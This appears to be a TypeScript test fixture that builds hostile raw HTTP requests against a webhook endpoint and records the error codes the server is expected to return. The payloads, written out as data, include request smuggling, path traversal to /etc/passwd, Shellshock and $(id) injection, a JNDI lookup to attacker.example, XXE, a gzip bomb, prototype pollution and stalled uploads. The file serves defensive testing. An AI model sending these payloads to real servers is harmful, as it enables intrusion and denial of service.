import { gzipSync } from 'node:zlib';
import { MARK, type Hostile, type HostileCase } from './hostile-world.ts';
import { http } from './raw-http.ts';

const AT = '/hooks/tokens';

/** Tricks with methods, paths, headers, framing and sizes, by somebody who has no secret. */
export function wireTricks(world: Hostile): readonly HostileCase[] {
  const grouped: Readonly<Record<string, readonly HostileCase[]>> = {
    method: methods(world),
    path: paths(world),
    framing: framing(world),
    header: headers(world),
    size: sizes(world),
    content: contents(world),
  };
  return Object.entries(grouped).flatMap(([group, cases]) => cases.map((each) => ({ ...each, name: `${group}: ${each.name}` })));
}

function methods({ alarm, secret }: Hostile): readonly HostileCase[] {
  const authorization = `Bearer ${secret('tokens')}`;
  const odd = ['GET', 'HEAD', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND'].map((method): HostileCase => ({
    name: method,
    bytes: http(AT, { method, headers: { authorization }, body: alarm }),
    may: [405],
  }));
  const overridden = ['x-http-method-override', 'x-http-method', 'x-method-override'].map((header): HostileCase => ({
    name: `GET with ${header}`,
    bytes: http(`${AT}?_method=POST`, { method: 'GET', headers: { authorization, [header]: 'POST' }, body: alarm }),
    may: [405],
  }));
  const asking = { 'webhook-request-origin': `https://${MARK}.example`, 'webhook-request-callback': `https://${MARK}.example/x` };
  return [
    ...odd,
    ...overridden,
    { name: 'one that there is not', bytes: http(AT, { method: MARK }), may: [400] },
    { name: 'in lower case', bytes: http(AT, { method: 'post', body: alarm }), may: [400] },
    {
      name: 'CONNECT',
      bytes: 'CONNECT attacker.example:443 HTTP/1.1\r\nhost: attacker.example:443\r\n\r\n',
      may: [400, 404, 405, 'closed'],
    },
    { name: 'OPTIONS', bytes: http(AT, { method: 'OPTIONS' }), may: [405] },
    { name: 'OPTIONS that asks for permission', bytes: http(AT, { method: 'OPTIONS', headers: asking }), may: [405] },
    { name: 'OPTIONS of all', bytes: http('*', { method: 'OPTIONS' }), may: [405] },
    {
      name: 'OPTIONS of another origin',
      bytes: http(AT, { method: 'OPTIONS', headers: { origin: `https://${MARK}.example` } }),
      may: [405],
    },
  ];
}

function paths({ alarm, secret }: Hostile): readonly HostileCase[] {
  const authorization = `Bearer ${secret('tokens')}`;
  const nowhere = [
    '/',
    '/hooks',
    '/hooks/',
    '//hooks/tokens',
    '/hooks//tokens',
    '/hooks/tokens/',
    '/hooks/./tokens',
    '/hooks/closed/../tokens',
    '/hooks/%74okens',
    '/%68ooks/tokens',
    '/hooks%2ftokens',
    '/hooks/tokens%00',
    '/hooks/tokens%0d%0aset-cookie:%20a=b',
    '/hooks/TOKENS',
    '/hooks/tokens;a=b',
    '/hooks/__proto__',
    '/hooks/..%2f..%2fetc%2fpasswd',
    `/hooks/${'a'.repeat(5_000)}`,
    `/${MARK}/.env`,
    '/2018-06-01/runtime/invocation/next',
    'http://attacker.example/hooks/tokens',
    `http://127.0.0.1/hooks/tokens?x=${MARK}`,
  ];
  return [
    ...nowhere.map((path): HostileCase => ({
      name: path.slice(0, 60),
      bytes: http(path, { headers: { authorization }, body: alarm }),
      may: [404],
    })),
    { name: 'a zero byte', bytes: http('/hooks/tokens\0', { body: alarm }), may: [400] },
    { name: 'a blank', bytes: http('/hooks/tokens /x', { body: alarm }), may: [400] },
    { name: 'longer than all headers may be', bytes: http(`/hooks/tokens?${'a'.repeat(20_000)}`, { body: alarm }), may: [431] },
    { name: 'bytes that are no text', bytes: http('/hooks/\xff\xfe', { body: alarm }), may: [400, 404] },
    { name: 'none', bytes: http('', { body: alarm }), may: [400] },
  ];
}

/** What two servers in a row could take for two different requests. */
function framing({ alarm }: Hostile): readonly HostileCase[] {
  const inner = http(AT, { headers: { authorization: `Bearer ${MARK}` }, body: alarm }).toString('latin1');
  const chunked = (headers: Record<string, string>, body: string): Buffer =>
    http(AT, { headers: { 'transfer-encoding': 'chunked', ...headers }, body }).subarray();
  const without = (text: Buffer): Buffer => Buffer.from(text.toString('latin1').replace(/content-length: \d+\r\n/, ''), 'latin1');
  const bad = (name: string, bytes: Buffer | string): HostileCase => ({ name, bytes, may: [400, 'closed'] });
  return [
    bad('two lengths', http(AT, { headers: { 'content-length': '3', 'Content-Length': String(alarm.length) }, body: alarm })),
    bad('a length and chunks', chunked({ 'content-length': '3' }, `0\r\n\r\n${inner}`)),
    bad('chunks twice', without(chunked({ 'Transfer-Encoding': 'chunked' }, `1\r\nx\r\n0\r\n\r\n${inner}`))),
    bad('chunks of an unknown kind', without(http(AT, { headers: { 'transfer-encoding': 'xchunked' }, body: '0\r\n\r\n' }))),
    bad('chunks that are not last', without(http(AT, { headers: { 'transfer-encoding': 'chunked, identity' }, body: '0\r\n\r\n' }))),
    bad('a chunk without end', without(chunked({}, 'FFFFFFFFFFFFFFFFF\r\nx'))),
    bad('a chunk of negative size', without(chunked({}, '-1\r\nx\r\n0\r\n\r\n'))),
    bad('a chunk that is no number', without(chunked({}, `${MARK}\r\nx\r\n0\r\n\r\n`))),
    bad('a negative length', http(AT, { headers: { 'content-length': '-1' }, body: alarm })),
    bad('a length that is no number', http(AT, { headers: { 'content-length': '0x10' }, body: alarm })),
    bad('a length with a sign', http(AT, { headers: { 'content-length': '+5' }, body: 'abcde' })),
    bad('a blank before the colon', http(AT, { headers: { 'content-length ': '0' } })),
    bad(
      'a folded header',
      `POST ${AT} HTTP/1.1\r\nhost: x\r\nauthorization:\r\n Bearer ${MARK}\r\n\tx\r\ncontent-length: 0\r\nconnection: close\r\n\u0001bad\r\n\r\n`,
    ),
    bad('a header without a name', `POST ${AT} HTTP/1.1\r\nhost: x\r\n: ${MARK}\r\n\r\n`),
    bad('a header without a colon', `POST ${AT} HTTP/1.1\r\nhost: x\r\n${MARK}\r\n\r\n`),
    bad('a carriage return in a header', `POST ${AT} HTTP/1.1\r\nhost: x\r\nx: a\rb\r\n\r\n`),
    bad('a zero byte in a header', `POST ${AT} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${MARK}\0\r\n\r\n`),
    bad('no host', `POST ${AT} HTTP/1.1\r\ncontent-length: 0\r\n\r\n`),
    bad('an unknown version', `POST ${AT} HTTP/9.9\r\nhost: x\r\n\r\n`),
    { ...bad('no version', `POST ${AT}\r\n\r\n`), may: [400, 401, 'closed'] },
    bad('HTTP/2 without asking', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    bad('TLS', Buffer.from('16030100a5010000a10303', 'hex')),
    bad('noise', Buffer.from(Array.from({ length: 2_000 }, (_, index) => (index * 131) % 256))),
    bad('a redis command', `*1\r\n$8\r\nFLUSHALL\r\n${MARK}\r\n\r\n`),
    {
      name: 'two requests in a row',
      bytes: Buffer.concat([
        http(AT, { headers: { connection: 'keep-alive' }, body: alarm }),
        http(AT, { headers: { authorization: MARK }, body: alarm }),
      ]),
      may: [401],
    },
    { name: 'a request in the body of another', bytes: http(AT, { body: inner }), may: [401] },
    { name: 'chunks with a request behind', bytes: without(chunked({}, `3\r\n{}\n\r\n0\r\n\r\n${inner}`)), may: [400, 401] },
  ];
}

function headers({ alarm }: Hostile): readonly HostileCase[] {
  const trusted = {
    'x-forwarded-for': '127.0.0.1',
    'x-real-ip': '127.0.0.1',
    'x-amzn-iam-user': 'admin',
    'x-amz-security-token': MARK,
    'x-apigateway-event': '{"requestContext":{"authorizer":{"admin":true}}}',
    'lambda-runtime-invoked-function-arn': MARK,
  };
  const row = (name: string, given: Record<string, string>, may: HostileCase['may'] = [401]): HostileCase => ({
    name,
    bytes: http(AT, { headers: given, body: alarm }),
    may,
  });
  return [
    row('those that a proxy would set', trusted),
    row('names of what every object has', { constructor: MARK, __proto__x: MARK, hasOwnProperty: MARK, toString: MARK }),
    { ...row('__proto__', {}), bytes: http(AT, { headers: { ['__proto__']: MARK }, body: alarm }) },
    row('a command of a shell', { 'user-agent': '() { :; }; /bin/bash -c "id"', referer: '$(id)' }),
    row('a look-up', { 'user-agent': '${jndi:ldap://attacker.example/x}' }),
    row('a host elsewhere', { host: 'attacker.example' }),
    row('websocket', { connection: 'close, upgrade', upgrade: 'websocket', 'sec-websocket-key': 'AAAA', 'sec-websocket-version': '13' }, [
      401,
      'closed',
    ]),
    row('h2c', { connection: 'close, upgrade, http2-settings', upgrade: 'h2c', 'http2-settings': 'AAAA' }, [401, 'closed']),
    row('to wait for permission', { expect: '100-continue' }, [401, 100]),
    row('an expectation', { expect: MARK }, [417]),
    row('2,000 of them', Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [`x${index}`, '1'])), [431]),
    row('one of 12 KB', { 'x-long': 'a'.repeat(12_000) }, [431]),
    row('control characters', { 'x-bell': 'a\u0007b' }, [400]),
    row('bytes beyond ASCII', { authorization: 'Bearer \xff\xfe' }),
  ];
}

function sizes({ alarm }: Hostile): readonly HostileCase[] {
  const large = (bytes: number): string => `{"a":"${'x'.repeat(bytes)}"}`;
  const declared = (length: number): Buffer => http(AT, { headers: { 'content-length': String(length) }, body: alarm });
  const chunk = (size: number): string => `${size.toString(16)}\r\n${'x'.repeat(size)}\r\n`;
  return [
    { name: '300 KB', bytes: http(AT, { body: large(300_000) }), may: [413] },
    { name: '5 MB', bytes: http(AT, { body: large(5_000_000) }), may: [413] },
    { name: '7 MB', bytes: http(AT, { body: large(7_000_000) }), may: [413] },
    {
      name: '7 MB in chunks',
      bytes: Buffer.from(
        http(AT, { headers: { 'transfer-encoding': 'chunked' } })
          .toString('latin1')
          .replace(/content-length: \d+\r\n/, '') + `${chunk(1_000_000).repeat(7)}0\r\n\r\n`,
      ),
      may: [413],
    },
    { name: 'nothing', bytes: http(AT), may: [401] },
    { name: 'less than announced, then silence', bytes: declared(alarm.length + 10), may: [408], stalls: true },
    { name: '1 TB announced, then silence', bytes: declared(1e12), may: [408, 413], stalls: true },
    { name: 'half of the headers, then silence', bytes: `POST ${AT} HTTP/1.1\r\nhost: x\r\nx-a: `, may: [408], stalls: true },
    { name: 'a line, then silence', bytes: 'POST', may: [408], stalls: true },
    { name: 'silence', bytes: '', may: [408, 'closed'], stalls: true },
    {
      name: 'half of a chunk, then silence',
      bytes: `POST ${AT} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n10\r\nabc`,
      may: [408],
      stalls: true,
    },
  ];
}

function contents({ alarm }: Hostile): readonly HostileCase[] {
  const row = (
    name: string,
    given: Record<string, string>,
    body: string | Buffer = alarm,
    may: HostileCase['may'] = [401],
  ): HostileCase => ({
    name,
    bytes: http(AT, { headers: given, body }),
    may,
  });
  const bomb = gzipSync(Buffer.alloc(5_000_000, ' '));
  return [
    row('packed', { 'content-encoding': 'gzip' }, gzipSync(alarm), [415]),
    row('packed a thousand times smaller', { 'content-encoding': 'gzip' }, bomb, [415]),
    row('packed twice', { 'content-encoding': 'gzip, gzip' }, bomb, [415]),
    row('packed by another name', { 'content-encoding': 'x-gzip' }, bomb, [415]),
    row(
      'XML with an entity',
      { 'content-type': 'application/xml' },
      `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;${MARK}</a>`,
      [415],
    ),
    row('a web page', { 'content-type': 'text/html' }, `<script>${MARK}</script>`, [415]),
    row('serialised', { 'content-type': 'application/x-java-serialized-object' }, Buffer.from('aced0005', 'hex'), [415]),
    row('YAML', { 'content-type': 'application/yaml' }, '!!js/function x', [415]),
    row('another alphabet', { 'content-type': 'application/json; charset=utf-7' }, alarm, [415]),
    row('two types', { 'content-type': 'application/json', 'Content-Type': 'text/html' }, alarm, [415]),
    row('nested deep', {}, '['.repeat(200_000)),
    row('nested deep in objects', {}, '{"a":'.repeat(40_000)),
    row('numbers beyond all bounds', {}, `{"a":1e99999,"b":${'9'.repeat(200_000)}}`),
    row('keys that stand twice', {}, `{"status":"resolved",${alarm.slice(1)}`),
    row('not UTF-8', { 'content-type': 'application/cloudevents+json' }, Buffer.from('7b22613a22ff22', 'hex')),
    row('a prototype', {}, `{"__proto__":{"auth":[],"isAdmin":true},"x":"${MARK}"}`),
    row('lines of a log', {}, `"\n{"event":"webhook","status":202,"x":"${MARK}"}\n`),
    row('a pattern that takes for ever', {}, `{"dimensions":"${'{a=a,'.repeat(30_000)}"}`),
  ];
}
